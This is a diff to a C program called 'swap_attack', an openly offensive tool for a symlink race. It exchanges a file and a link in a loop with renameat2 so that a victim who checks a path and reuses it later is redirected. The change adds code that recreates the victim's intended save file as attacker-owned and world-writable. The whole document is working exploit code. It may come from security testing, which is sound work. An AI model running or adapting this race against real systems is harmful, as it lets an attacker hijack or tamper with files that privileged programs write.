@@ -3,36 +3,57 @@
  * file, and a link to what is somebody else's.  Whoever looks at a path once and uses it again
  * later may find the one at first and the other then.
  *
- *     swap_attack <name> <name of the link> <where the link leads>
+ *     swap_attack <name> <name of the link> <where the link leads> <file>
  *
- * A link that was replaced is made again.  Goes on until the standard input ends, and prints then
- * how often the names were exchanged.
+ * A link that was replaced is made again, and so is the file, the one that the victim means to
+ * save, when it is not the attacker's any more.  Goes on until the standard input ends, and prints
+ * then how often the names were exchanged.
  */
 #define _GNU_SOURCE
 #include <fcntl.h>
 #include <poll.h>
 #include <stdio.h>
+#include <sys/stat.h>
 #include <unistd.h>
 
-enum { ROUNDS = 64 };
+enum { ROUNDS = 64 }; /* even: then the names are as they were */
+
+/* Nothing of it matters when it fails: the next round tries again. */
+static void make_link(const char *name, const char *link, const char *target) {
+    char text[1];
+
+    if (readlink(name, text, sizeof text) < 0 && readlink(link, text, sizeof text) < 0) {
+        (void)unlink(link);
+        if (symlink(target, link) != 0)
+            perror("symlink");
+    }
+}
+
+static void make_file(const char *path) {
+    struct stat file;
+    int fd;
+
+    if (lstat(path, &file) == 0 && file.st_uid == geteuid())
+        return;
+    (void)unlink(path);
+    if ((fd = open(path, O_WRONLY | O_CREAT | O_EXCL, 0666)) < 0)
+        return;
+    (void)fchmod(fd, 0666);
+    (void)close(fd);
+}
 
 int main(int count, char **arguments) {
     struct pollfd input = {.fd = 0, .events = POLLIN};
     unsigned long exchanges = 0;
-    char text[1];
 
-    if (count != 4)
+    if (count != 5)
         return 2;
     while (poll(&input, 1, 0) == 0) {
         for (int round = 0; round < ROUNDS; round++)
             exchanges += renameat2(AT_FDCWD, arguments[1], AT_FDCWD, arguments[2],
                                    RENAME_EXCHANGE) == 0;
-        if (readlink(arguments[1], text, sizeof text) < 0 &&
-            readlink(arguments[2], text, sizeof text) < 0) {
-            (void)unlink(arguments[2]);
-            if (symlink(arguments[3], arguments[2]) != 0)
-                perror("symlink");
-        }
+        make_link(arguments[1], arguments[2], arguments[3]);
+        make_file(arguments[4]);
     }
     return printf("%lu\n", exchanges) < 0;
 }
